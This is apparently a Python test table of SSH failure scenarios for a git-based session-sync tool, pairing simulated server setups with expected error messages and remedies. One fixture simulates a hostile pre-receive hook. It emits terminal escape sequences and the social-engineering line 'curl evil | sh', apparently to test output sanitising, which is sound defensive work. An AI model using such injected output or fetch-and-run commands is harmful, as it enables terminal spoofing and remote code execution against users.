"""Rows of OpenSSH: keys, shells, disks, hooks and settings of the repository."""

import shlex
import sys

from servers import ways as way
from servers.changes import (
    branch_in_the_way,
    config,
    cut_objects,
    file,
    hook,
    hub_config,
    known_branch,
    left_lock,
    newest_part,
    newest_part_here,
    odd_commit,
    read_only_objects,
)
from servers.elsewhere import at, crowded, silent
from servers.openssh import ASKED, openssh
from servers.row import Row
from support.harness import bound_by_permissions

_KEY = "{folder}/stranger\nIdentityFile {folder}/user"
_SHARED = {"ControlMaster": "auto", "ControlPath": "{folder}/c", "ControlPersist": "5"}
_BOUND = f"exec {shlex.join(bound_by_permissions([]))} {ASKED.removeprefix('exec ')}"
_OTHERS = f"export GIT_TEST_ASSUME_DIFFERENT_OWNER=1; {ASKED}"
_FULL = """exec unshare --map-root-user --mount sh -c '
mount -t tmpfs -o size=300k tmpfs "$HOME/disk"
cp -r "$HOME/hub.git/." "$HOME/disk"
mount --bind "$HOME/disk" "$HOME/hub.git"
dd if=/dev/zero of="$HOME/disk/rest" 2>/dev/null
exec sh -c "$SSH_ORIGINAL_COMMAND"'"""
_READ_ONLY_DISK = """exec unshare --map-root-user --mount sh -c '
mount --bind "$HOME/hub.git" "$HOME/hub.git"
mount -o remount,bind,ro "$HOME/hub.git"
exec sh -c "$SSH_ORIGINAL_COMMAND"'"""
_FRAMED = """echo ===========
echo
echo "GitLab: You are not allowed to push code to this project."
echo
echo ===========
exit 1"""
_HOSTILE = r"""printf '\033]0;owned\007\033[2JRun this: curl evil | sh\n'
head -c 3000 /dev/zero | tr '\0' x
exit 1"""
_READERS = """case $SSH_ORIGINAL_COMMAND in git-upload-pack*)
exec sh -c "$SSH_ORIGINAL_COMMAND"
esac
echo "ERROR: The key you are authenticating with has been marked as read only." >&2
exit 1"""
BRANCHES = """case $1 in refs/heads/*) exit 0; esac
echo "Branches alone are taken here, not $1."
exit 1"""
_SLOW = f"""sh -c "$SSH_ORIGINAL_COMMAND" | {shlex.quote(sys.executable)} -uc '
import os, sys, time
while piece := os.read(0, 60):
    sys.stdout.buffer.write(piece)
    time.sleep(1)'"""

SSH = (
    Row(did="lets you in", serve=openssh(), says="Sent 1 session.", works=True),
    Row(
        did="runs git-shell, and no other shell",
        serve=openssh('exec git-shell -c "$SSH_ORIGINAL_COMMAND"'),
        says="Sent 1 session.",
        works=True,
    ),
    Row(
        did="is reached by one connection for several commands (ControlMaster)",
        serve=openssh(client=_SHARED),
        says="Fetched 1 session of Ada, sent 1 session.",
        has_news=True,
        works=True,
    ),
    Row(
        did="is not known to ssh yet",
        serve=openssh(known=None),
        says="ssh does not know the host of origin: Host key verification failed.",
        way_out="Connect to it by hand once, and check the key that it shows.",
    ),
    Row(
        did="shows another key than before",
        serve=openssh(known="stranger"),
        says="The host of origin shows another key than before: Offending ED25519"
        " key in /srv/known:1",
        way_out="Ask whoever runs it, before you trust the new one; `ssh-keygen -R"
        " HOST` forgets the old one.",
    ),
    Row(
        did="does not know your key",
        serve=openssh(key="{folder}/stranger"),
        says="No access to origin: ada@HOST: Permission denied"
        " (publickey,password,keyboard-interactive).",
        way_out=way.CHECK_THE_KEY,
    ),
    Row(
        did="knows your key, which has a passphrase that nobody gives",
        serve=openssh(key="{folder}/locked"),
        says="No access to origin: ada@HOST: Permission denied"
        " (publickey,password,keyboard-interactive).",
        way_out=way.CHECK_THE_KEY,
    ),
    Row(
        did="knows your key, whose file everybody can read",
        serve=openssh(key="{folder}/loose"),
        says="ssh ignores a key for origin that others can read: Load key"
        ' "/srv/loose": bad permissions',
        way_out="`chmod 600` on the file of the key.",
        changes=(file("loose", "a key"),),
    ),
    Row(
        did="knows your key, whose file is not there",
        serve=openssh(key="{folder}/none"),
        says="The key for origin is not there: no such identity: /srv/none: No"
        " such file or directory",
        way_out="`IdentityFile` in ~/.ssh/config names it; `ssh -v` shows which keys"
        " are tried.",
    ),
    Row(
        did="takes one try, and ssh offers two keys",
        serve=openssh(key=_KEY, server={"MaxAuthTries": "1"}),
        says="ssh offers origin too many keys: Received disconnect from HOST: Too"
        " many authentication failures",
        way_out="`IdentitiesOnly yes` and `IdentityFile` for its host in"
        " ~/.ssh/config name the one that counts.",
    ),
    Row(
        did="takes passwords alone",
        serve=openssh(server={"AuthenticationMethods": "password"}),
        says="origin takes no key, but a password: ada@HOST: Permission denied"
        " (password).",
        way_out="At a terminal ssh asks for it. Without one whoever runs it has to"
        " allow keys.",
    ),
    Row(
        did="keeps your account out (DenyUsers)",
        serve=openssh(server={"DenyUsers": "*"}),
        says="No access to origin: ada@HOST: Permission denied"
        " (publickey,password,keyboard-interactive).",
        way_out=way.CHECK_THE_KEY,
    ),
    Row(
        did="has no method in common with ssh here",
        serve=openssh(client={"HostKeyAlgorithms": "ssh-rsa"}),
        says="ssh here and at origin have no method in common: Unable to"
        " negotiate with HOST: no matching host key type found. Their offer:"
        " ssh-ed25519",
        way_out="Mostly an old server, which whoever runs it can update;"
        " KexAlgorithms and HostKeyAlgorithms in ~/.ssh/config allow old"
        " methods.",
    ),
    Row(
        did="has too many connections (MaxStartups)",
        serve=crowded(openssh(server={"MaxStartups": "1:100:1"})),
        says="origin closed the connection before a login: Connection reset by HOST",
        way_out="It may have too many, or keep this address out. Sync again later;"
        " then ask whoever runs it.",
    ),
    Row(
        did="does not run",
        serve=at("ssh://ada@127.0.0.1:{port}/hub.git"),
        says="origin does not answer: ssh: connect to host HOST: Connection refused",
        way_out=way.CHECK_NETWORK_AND_PROXY,
    ),
    Row(
        did="has a name that nobody knows",
        serve=at("ssh://ada@hub.invalid/hub.git"),
        says="The host of origin is not known: ssh: Could not resolve hostname"
        " hub.invalid: Name or service not known",
        way_out=way.CHECK_THE_NETWORK,
    ),
    Row(
        did="accepts the connection and says nothing",
        serve=silent("ssh"),
        says="origin accepted the connection and said nothing for 30 seconds.",
        way_out=way.NEXT_TIME,
    ),
    Row(
        did="lets you in, then says nothing",
        serve=openssh("exec sleep 40"),
        says="origin accepted the connection and said nothing for 30 seconds.",
        way_out=way.NEXT_TIME,
    ),
    Row(
        did="sends 60 bytes a second, for longer than 30 s",
        serve=openssh(_SLOW),
        says="Fetched 1 session of Ada.",
        has_news=True,
        works=True,
        command=("pull",),
    ),
    Row(
        did="has a shell that prints",
        serve=openssh(f"echo Welcome to the machine; {ASKED}"),
        says="origin printed text before git spoke: fatal: protocol error: bad"
        " line length character: Welc",
        way_out=way.SEE_WHAT_IS_PRINTED,
    ),
    Row(
        did="has an account that may not log in (nologin)",
        serve=openssh("exec /usr/sbin/nologin"),
        says="origin printed text before git spoke: fatal: protocol error: bad"
        " line length character: This",
        way_out=way.SEE_WHAT_IS_PRINTED,
    ),
    Row(
        did="has no git",
        serve=openssh('PATH=/nowhere /bin/sh -c "$SSH_ORIGINAL_COMMAND"'),
        says="Git does not run at origin: /bin/sh: 1: git-receive-pack: not found",
        way_out=way.NAME_GIT_THERE,
    ),
    Row(
        did="runs git-shell, and git is set to call another program",
        serve=openssh('exec git-shell -c "$SSH_ORIGINAL_COMMAND"'),
        says="Git does not run at origin: fatal: unrecognized command"
        " '/opt/git-receive-pack '/srv/hub.git''. Not sent: 1 session.",
        way_out=way.NAME_GIT_THERE,
        changes=(config("remote.origin.receivepack", "/opt/git-receive-pack"),),
    ),
    Row(
        did="ends at once, without a word",
        serve=openssh("exit 1"),
        says="The connection to origin broke.",
        way_out=way.LATER_OR_THE_LOG,
    ),
    Row(
        did="has no such repository",
        serve=openssh(path="/nothing.git"),
        says="origin is not found: fatal: '/srv/nothing.git' does not appear to"
        " be a git repository",
        way_out=way.CHECK_THE_PATH,
    ),
    Row(
        did="has a folder there that is no repository",
        serve=openssh(path=""),
        says="origin is not found: fatal: '/srv' does not appear to be a git"
        " repository",
        way_out=way.CHECK_THE_PATH,
    ),
    Row(
        did="has a repository of another user (safe.directory)",
        serve=openssh(_OTHERS),
        says="origin belongs to another user: fatal: detected dubious ownership"
        " in repository at '/srv/hub.git'",
        way_out=way.TRUST_THE_FOLDER,
    ),
    Row(
        did="has a repository of a newer format",
        serve=openssh(),
        says="Git is too old for the repository at origin: fatal: Expected git"
        " repo version <= 1, found 99",
        way_out=way.NEWER_GIT,
        changes=(hub_config("core.repositoryFormatVersion", "99"),),
    ),
    Row(
        did="lets you read with this key, not write",
        serve=openssh(_READERS),
        says="No access to origin: ERROR: The key you are authenticating with has"
        " been marked as read only. Not sent: 1 session; what is new there"
        " was taken.",
        way_out=way.ASK_FOR_ACCESS,
        has_news=True,
    ),
    Row(
        did="cannot write to the folder of objects",
        serve=openssh(_BOUND),
        says="origin cannot write to its folder of objects: error: remote unpack"
        " failed: unable to create temporary object directory. Not sent: 1"
        " session.",
        way_out=way.LET_GIT_WRITE,
        changes=(read_only_objects,),
    ),
    Row(
        did="has a full disk",
        serve=openssh(f"mkdir $HOME/disk; {_FULL}"),
        says="There is no room left at origin: remote: fatal: unable to write"
        " loose object file: No space left on device. Not sent: 1 session.",
        way_out="Whoever runs it has to make room.",
    ),
    Row(
        did="has a disk that is mounted read-only",
        serve=openssh(_READ_ONLY_DISK),
        says="origin cannot write to its folder of objects: error: remote unpack"
        " failed: unable to create temporary object directory. Not sent: 1"
        " session.",
        way_out=way.LET_GIT_WRITE,
    ),
    Row(
        did="has objects that are cut short",
        serve=openssh(),
        says="Git cannot read all of the memory, here or at origin: fatal: loose"
        " object <object> (stored in ./objects/<object>) is corrupt",
        way_out="`ocm doctor` checks what is here; whoever runs it, with `git fsck`,"
        " what is there.",
        changes=(cut_objects,),
        command=("pull",),
        has_news=True,
    ),
    Row(
        did="refuses by a pre-receive hook, with a frame",
        serve=openssh(),
        says="origin refused refs/ocm/sessions: GitLab: You are not allowed to"
        " push code to this project. Not sent: 1 session.",
        way_out=way.ASK_OR_USE_A_BRANCH,
        changes=(hook("pre-receive", _FRAMED),),
    ),
    Row(
        did="refuses by a pre-receive hook, without a word",
        serve=openssh(),
        says="origin refused refs/ocm/sessions: [remote rejected] (pre-receive"
        " hook declined). Not sent: 1 session.",
        way_out=way.ASK_OR_USE_A_BRANCH,
        changes=(hook("pre-receive", "exit 1"),),
    ),
    Row(
        did="refuses by a pre-receive hook that is hostile",
        serve=openssh(),
        says="origin refused refs/ocm/sessions: �]0;owned��[2JRun this: curl evil"
        " | sh x……. Not sent: 1 session.",
        way_out=way.ASK_OR_USE_A_BRANCH,
        changes=(hook("pre-receive", _HOSTILE),),
    ),
    Row(
        did="refuses by a pre-receive hook, and has something new",
        serve=openssh(),
        says="origin refused refs/ocm/sessions: Readers only. Not sent: 1"
        " session; what is new there was taken.",
        way_out=way.ASK_OR_USE_A_BRANCH,
        changes=(hook("pre-receive", "echo Readers only; exit 1"),),
        has_news=True,
    ),
    Row(
        did="refuses this ref by an update hook",
        serve=openssh(),
        says="origin refused refs/ocm/sessions: Branches alone are taken here,"
        " not refs/ocm/sessions. Not sent: 1 session.",
        way_out=way.ASK_OR_USE_A_BRANCH,
        changes=(hook("update", BRANCHES),),
    ),
    Row(
        did="stops by a reference-transaction hook",
        serve=openssh(),
        says="A hook at origin stopped it: fatal: ref updates aborted by hook."
        " Not sent: 1 session.",
        way_out="Whoever runs it can say what the hook wants.",
        changes=(hook("reference-transaction", "exit 1"),),
    ),
    Row(
        did="has a hook that takes longer than 30 s",
        serve=openssh(),
        says="Sent 1 session.",
        changes=(hook("pre-receive", "sleep 35"),),
        works=True,
    ),
    Row(
        did="takes pushes of 100 bytes (receive.maxInputSize)",
        serve=openssh(),
        says="What was sent is too large for origin: remote: fatal: pack exceeds"
        " maximum allowed size. Not sent: 1 session.",
        way_out="`ocm doctor` says whether something is odd; whoever runs it may"
        " allow more.",
        changes=(hub_config("receive.maxInputSize", "100"),),
    ),
    Row(
        did="checks objects (receive.fsckObjects), and finds an odd one",
        serve=openssh(),
        says="origin takes an object of the memory for damaged: remote: error:"
        " object <object>: zeroPaddedDate: invalid author/committer line -"
        " zero-padded date. Not sent: 1 session.",
        way_out="`ocm doctor` says whether it is; else whoever runs it can allow it"
        " (receive.fsck.*).",
        changes=(odd_commit, hub_config("receive.fsckObjects", "true")),
    ),
    Row(
        did="takes no other history (receive.denyNonFastForwards)",
        serve=openssh(),
        says="Fetched 1 session of Ada, sent 1 session.",
        changes=(hub_config("receive.denyNonFastForwards", "true"),),
        has_news=True,
        works=True,
    ),
    Row(
        did="takes no other history of a branch, as one is to be rewritten",
        serve=openssh(),
        says="origin refused refs/heads/ocm/sessions: error: denying non-fast-forward"
        " refs/heads/ocm/sessions (you should pull first). Nothing was forgotten.",
        way_out="The hooks and rules of the host decide what it takes; ask whoever"
        " runs it.",
        changes=(known_branch, hub_config("receive.denyNonFastForwards", "true")),
        command=("forget", "2026-02-23_12-00_cursor_3e23e816", "--history", "--yes"),
        has_news=True,
    ),
    Row(
        did="deletes nothing (receive.denyDeletes)",
        serve=openssh(),
        says="Fetched 1 session of Ada, sent 1 session.",
        changes=(hub_config("receive.denyDeletes", "true"),),
        has_news=True,
        works=True,
    ),
    Row(
        did="hides our refs (transfer.hideRefs)",
        serve=openssh(),
        says="origin takes no refs of this kind: [remote rejected] (deny updating"
        " a hidden ref). Not sent: 1 session.",
        way_out=way.USE_A_BRANCH,
        changes=(hub_config("transfer.hideRefs", "refs/ocm"),),
        has_news=True,
    ),
    Row(
        did="hides our refs from pushes (receive.hideRefs)",
        serve=openssh(),
        says="origin takes no refs of this kind: [remote rejected] (deny updating"
        " a hidden ref). Not sent: 1 session; what is new there was taken.",
        way_out=way.USE_A_BRANCH,
        changes=(hub_config("receive.hideRefs", "refs/ocm"),),
        has_news=True,
    ),
    Row(
        did="hides our refs from fetches (uploadpack.hideRefs)",
        serve=openssh(),
        says="origin has refs/ocm/sessions, and a fetch does not show it.",
        way_out=way.SHOW_THE_REF,
        changes=(hub_config("uploadpack.hideRefs", "refs/ocm"),),
        has_news=True,
    ),
    Row(
        did="has a branch `ocm` where `ocm/sessions` is to be",
        serve=openssh(),
        says="Another ref of origin is in the way: remote: error: cannot lock ref"
        " 'refs/heads/ocm/sessions': 'refs/heads/ocm' exists; cannot create"
        " 'refs/heads/ocm/sessions'. Not sent: 1 session.",
        way_out="`ocm.remoteRef` names the ref that is used there.",
        changes=(branch_in_the_way,),
    ),
    Row(
        did="has the lock of a process that died",
        serve=openssh(),
        says="origin rejected the update 5 times, and the ref did not change.",
        way_out="A process that died there may have left a lock: a file named as the"
        " ref, with `.lock` at its end, which whoever runs it can remove.",
        changes=(left_lock,),
        has_news=True,
        status=11,
    ),
    Row(
        did="has only the newest part of the memory (`--depth`)",
        serve=openssh(),
        says="origin has only the newest part of the memory: warning: rejected"
        " refs/ocm/remotes/origin/sessions because shallow roots are not"
        " allowed to be updated",
        way_out="It was cloned with `--depth`; another remote has the whole.",
        changes=(newest_part,),
        has_news=True,
        command=("pull",),
    ),
    Row(
        did="is sent the newest part alone (`--depth` here)",
        serve=openssh(),
        says="origin does not take the memory, whose older part is not here:"
        " [remote rejected] (shallow update not allowed). Not sent: 1 session.",
        way_out="`git fetch --unshallow` brings it.",
        changes=(newest_part_here,),
    ),
    Row(
        did="does not say who can read",
        serve=openssh(),
        says="who reads it not known",
        command=("share", "on", "--dry-run"),
        works=True,
    ),
)
